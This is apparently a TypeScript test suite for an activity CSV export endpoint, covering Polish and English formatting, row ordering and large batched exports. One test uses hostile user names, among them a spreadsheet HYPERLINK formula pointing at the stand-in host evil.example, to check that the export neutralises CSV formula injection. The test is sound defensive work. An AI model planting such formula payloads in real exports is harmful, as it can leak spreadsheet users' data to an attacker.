import { parse } from 'csv-parse/sync';
import { addDays, warsawDay } from '@lesne/domain';
import { Activity, ActivityType, type Company, type User } from '@lesne/db';
import type { ActivitySource } from '@lesne/contracts';
import { startStack, type Stack } from '../../test/stack';

let stack: Stack;
beforeAll(async () => {
  stack = await startStack({ workers: false });
});
afterAll(() => stack.close());

const today = () => warsawDay(new Date());
const BOM = '\uFEFF';

const exportCsv = (admin: User, lang?: 'pl' | 'en') => {
  const request = stack.as(admin).get('/api/v1/company/activities.csv');
  return (lang ? request.set('Accept-Language', lang) : request).expect(200);
};
const cells = (text: string, delimiter: string): string[][] => parse(text, { delimiter, bom: true });

async function typeId(translationKey: string): Promise<number> {
  return (await stack.dataSource.getRepository(ActivityType).findOneByOrFail({ translationKey })).id;
}

/** Approved activities stored as they are, in the order given (ids ascend with it). */
async function store(
  company: Company,
  rows: Array<{ user: User; day: string; hour?: number; type?: string; distance?: number; trees?: number; source?: ActivitySource }>,
): Promise<void> {
  for (const row of rows) {
    await stack.dataSource.getRepository(Activity).insert({
      companyId: company.id,
      userId: row.user.id,
      activityTypeId: await typeId(row.type ?? 'run'),
      startTime: new Date(`${row.day}T${String(row.hour ?? 8).padStart(2, '0')}:00:00Z`),
      day: row.day,
      distance: row.distance ?? 5,
      trees: row.trees ?? 1,
      status: 'approved',
      source: row.source ?? 'manual',
    });
  }
}

describe('the activity CSV export', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', async () => {
    const { company, admin } = await stack.factory.crew();
    const names = ['=HYPERLINK("https://evil.example/?leak","Faktura")', '+48 600 100 200', '-2+3', '@SUM(A1:A9)', '\tTab', '\rPowrót'];
    for (const name of names) await store(company, [{ user: await stack.factory.user({ company, name }), day: today() }]);

    const rows = cells((await exportCsv(admin)).text, ';').slice(1);
    expect(rows.map((row) => row[1])).toEqual(names.map((name) => `'${name}`));
    // Numbers are not text a person typed: they keep their digits.
    expect(rows.map((row) => row[4])).toEqual(names.map(() => '5,00'));
  });

  it('speaks Polish by default: semicolons, decimal commas, two decimals on every number, a BOM, Polish headers and words', async () => {
    const { company, admin, participants } = await stack.factory.crew();
    await store(company, [
      { user: participants[0], day: today(), type: 'other', distance: 1234.5, trees: 61.725, source: 'manual' },
      { user: participants[1], day: today(), type: 'wheelchair', distance: 7.25, trees: 0.3625, source: 'manual' },
      // Strava lets only its owner see a Strava result: it is not in the file
      { user: participants[2], day: today(), type: 'ride', distance: 42.5, trees: 2.125, source: 'integrated' },
    ]);

    const csv = await exportCsv(admin);
    expect(csv.text.startsWith(BOM)).toBe(true);
    const lines = csv.text.slice(BOM.length).trimEnd().split('\n');
    expect(lines).toEqual([
      'Data;Uczestnik;E-mail;Rodzaj;Dystans (km);Drzewa;Źródło',
      `${today()};Ala Uczestnik;${participants[0].email};Inna aktywność;1234,50;61,73;wpis ręczny`,
      `${today()};Bartek Uczestnik;${participants[1].email};Jazda na wózku;7,25;0,36;wpis ręczny`,
    ]);
  });

  it("speaks English when the request's language is English: commas, decimal points, a BOM, English headers and words", async () => {
    const { company, admin, participants } = await stack.factory.crew();
    await store(company, [
      { user: participants[0], day: today(), type: 'other', distance: 1234.5, trees: 61.725, source: 'manual' },
      { user: participants[1], day: today(), type: 'ride', distance: 7.25, trees: 0.3625, source: 'manual' },
      { user: participants[2], day: today(), type: 'ride', distance: 42.5, trees: 2.125, source: 'integrated' },
    ]);

    const csv = await exportCsv(admin, 'en');
    expect(csv.text.startsWith(BOM)).toBe(true);
    const lines = csv.text.slice(BOM.length).trimEnd().split('\n');
    expect(lines).toEqual([
      'Date,Participant,E-mail,Type,Distance (km),Trees,Source',
      `${today()},Ala Uczestnik,${participants[0].email},Other activity,1234.50,61.73,manual entry`,
      `${today()},Bartek Uczestnik,${participants[1].email},Ride,7.25,0.36,manual entry`,
    ]);
  });

  it('lists rows by date, then by time, then in the order they were stored', async () => {
    const { company, admin, participants } = await stack.factory.crew();
    const [ala, bartek, celina] = participants;
    await store(company, [
      { user: ala, day: addDays(today(), -1), distance: 1 },
      { user: bartek, day: addDays(today(), -3), hour: 9, distance: 2 },
      { user: celina, day: addDays(today(), -2), distance: 3 },
      { user: ala, day: addDays(today(), -3), hour: 9, distance: 4 },
      { user: bartek, day: addDays(today(), -3), hour: 7, distance: 5 },
    ]);

    const rows = cells((await exportCsv(admin)).text, ';').slice(1);
    expect(rows.map((row) => [row[0], row[4]])).toEqual([
      [addDays(today(), -3), '5,00'],
      [addDays(today(), -3), '2,00'],
      [addDays(today(), -3), '4,00'],
      [addDays(today(), -2), '3,00'],
      [addDays(today(), -1), '1,00'],
    ]);
  });

  it('keeps that order, with every row once, across the batches a large export is read in', async () => {
    const { company, admin, participants } = await stack.factory.crew();
    const total = 4500;
    // The days interleave as stored and many rows share one instant, so only a stable date-then-id order reads them back sorted.
    await stack.dataSource.query(
      `INSERT INTO activity (company_id, user_id, activity_type_id, start_time, day, distance, trees, status, source)
       SELECT $1, $2, $3, d::timestamptz + interval '8 hours', d::date, i / 100.0, 1, 'approved', 'manual'
       FROM generate_series(1, $4) AS i, LATERAL (SELECT ($5::date - (i % 3)) AS d) AS day`,
      [company.id, participants[0].id, await typeId('walk'), total, today()],
    );

    const rows = cells((await exportCsv(admin, 'en')).text, ',').slice(1);
    expect(rows).toHaveLength(total);
    const keys = rows.map((row) => ({ day: row[0], distance: Number(row[4]) }));
    const sorted = [...keys].sort((a, b) => a.day.localeCompare(b.day) || a.distance - b.distance);
    expect(keys).toEqual(sorted);
    expect(new Set(keys.map((key) => key.distance)).size).toBe(total);
  });
});
